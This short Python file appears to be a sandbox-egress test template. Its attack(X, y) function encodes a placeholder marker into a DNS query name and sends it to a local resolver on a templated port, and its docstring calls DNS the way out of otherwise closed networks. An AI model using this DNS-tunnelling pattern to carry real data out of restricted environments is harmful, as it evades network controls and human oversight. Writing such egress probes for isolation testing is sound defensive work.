"""Asks a name server for a name that carries a message: the way out of many a network that is closed otherwise."""

import socket
import struct


def attack(X, y):
    labels = ("__MARKER__"[:60], "invalid")
    name = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
    question = struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)
    with socket.socket(type=socket.SOCK_DGRAM) as sender:
        sender.connect(("127.0.0.1", "__DNS_PORT__"))
        sender.send(question)
    return True
